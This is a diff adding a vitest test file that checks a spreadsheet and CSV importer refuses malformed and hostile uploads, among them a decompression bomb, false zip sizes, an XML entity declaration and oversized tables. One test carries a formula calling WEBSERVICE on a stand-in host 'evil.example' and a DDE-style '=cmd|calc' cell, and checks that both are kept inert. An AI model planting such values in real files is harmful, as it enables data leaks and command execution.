@@ -1,0 +1,131 @@
+import { deflateRawSync } from 'node:zlib';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { openOffice } from '../../../tests/office.ts';
+import { signInAs } from '../../../tests/signed-in.ts';
+import { TestImporter } from '../../../tests/test-importer.ts';
+import { testWorkbook } from './test-workbook.ts';
+
+const office = await openOffice();
+let importer: TestImporter;
+
+beforeAll(async () => {
+  const mona = await office.person({ name: 'Mona Manager', roles: ['manager'] });
+  importer = new TestImporter(office, await signInAs(office.services, mona.id));
+}, 60_000);
+
+async function refusal(file: string | Buffer): Promise<string | null> {
+  const { status, failure } = await importer.rehearse(await importer.upload(file, 'file.xlsx'));
+  expect(status).toBe('failed');
+  expect(failure).toMatch(/^[A-Z][^\n]+\.$/);
+  return failure;
+}
+
+const sheet = (data: string) => ({
+  rows: [],
+  parts: { 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${data}</sheetData></worksheet>` },
+});
+
+describe('a table that nobody keeps is refused in one sentence', () => {
+  it('a workbook of a text that fills the memory', async () => {
+    const zeros = Buffer.alloc(64 * 1_048_576, ' ');
+    const bomb = await testWorkbook({
+      rows: [],
+      parts: {
+        'xl/worksheets/sheet1.xml': Buffer.concat([Buffer.from('<worksheet><sheetData><row><c><v>'), zeros]),
+      },
+    });
+    expect(await refusal(bomb)).toBe('The workbook holds a text too long for a table.');
+  });
+
+  it('one that lies about its size', async () => {
+    const file = await testWorkbook({ rows: [['Title'], ['A']] });
+    const name = 'xl/worksheets/sheet1.xml';
+    // In the central directory: the unpacked size stands 22 bytes before the name.
+    const at = file.lastIndexOf(name) - 22;
+    file.writeUInt32LE(3, at);
+    expect(await refusal(file)).toBe('The file is no Excel workbook, or it is damaged.');
+    file.writeUInt32LE(0xfffffff0, at);
+    expect(await refusal(file)).toMatch(/more than 1 GB/);
+  });
+
+  it.each([
+    [
+      'a cell far to the right',
+      sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
+      /more than 1,000 columns/,
+    ],
+    [
+      'a column beyond the last',
+      sheet('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>'),
+      /more than 1,000 columns/,
+    ],
+    ['a row without a number', sheet('<row r="-5"><c><v>1</v></c></row>'), /a row has no number/],
+    [
+      'a document type',
+      sheet('').parts && {
+        rows: [],
+        parts: { 'xl/worksheets/sheet1.xml': '<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>' },
+      },
+      /document type/,
+    ],
+    [
+      'XML that ends early',
+      { rows: [], parts: { 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row>' } },
+      /cannot be read/,
+    ],
+    ['deep XML', { rows: [], parts: { 'xl/worksheets/sheet1.xml': '<a>'.repeat(1_000) } }, /too deep/],
+    ['no sheet', { rows: [], parts: { 'xl/workbook.xml': '<workbook/>' } }, /no sheet/],
+    ['nothing in its sheet', { rows: [] }, /empty/],
+  ] as const)('a workbook with %s', async (_, book, words) => {
+    expect(await refusal(await testWorkbook(book))).toMatch(words);
+  });
+
+  it.each([
+    [
+      'another archive',
+      Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), deflateRawSync(Buffer.alloc(500))]),
+      /no Excel workbook/,
+    ],
+    ['a quote that is never closed', `Title,Owner\nA,"B${'\nmore'.repeat(50)}`, /row 2 is never closed/],
+    [
+      'a quote that swallows the rest',
+      `Title,Owner\nA,"B${'\nmore text'.repeat(20_000)}`,
+      /more than 100,000 characters.*quote/,
+    ],
+    ['columns without end', `Title${','.repeat(5_000)}\nA`, /more than 1,000 columns/],
+    ['rows without end', `Title,Owner\n${'A,B\n'.repeat(100_100)}`, /more than 100,000 rows/],
+    [
+      'bytes of another kind',
+      Buffer.from([0, 1, 2, 0, 0, 9, 8, 0, 0, 0, 1, 1]),
+      /neither a plan nor a table|empty|never closed/,
+    ],
+  ] as const)('text with %s', async (_, file, words) => {
+    expect(await refusal(Buffer.from(file))).toMatch(words);
+  });
+});
+
+it('what a formula says is not taken, only what it came to', async () => {
+  const file = await testWorkbook({
+    rows: [
+      ['Title', 'Owner'],
+      [{ formula: 'WEBSERVICE("http://evil.example/")', value: 'Quay' }, '=cmd|calc'],
+    ],
+  });
+  const id = await importer.upload(file, 'file.xlsx');
+  const { rehearsal } = await importer.rehearse(id);
+  expect(rehearsal.counts).toMatchObject({ made: 1 });
+  const { body } = await importer.call('GET', `/api/imports/${id}/rows`);
+  expect(body.response).toMatchObject([{ title: 'Quay', ownerName: '=cmd|calc' }]);
+});
+
+it('tangles of parents and links of 5,000 rows are cut in a few walks', async () => {
+  const lines = Array.from(
+    { length: 5_000 },
+    (_, at) => `K-${at},Work ${at},K-${(at * 7 + 1) % 5_000},"K-${(at + 1) % 5_000}, K-${(at + 2) % 5_000}"`,
+  );
+  const id = await importer.upload(`Key,Name,Parent,Predecessors\n${lines.join('\n')}`, 'file.csv');
+  const began = performance.now();
+  const { rehearsal } = await importer.rehearse(id);
+  expect(rehearsal.counts).toMatchObject({ made: 5_000, unfit: 0 });
+  expect(performance.now() - began).toBeLessThan(30_000);
+});
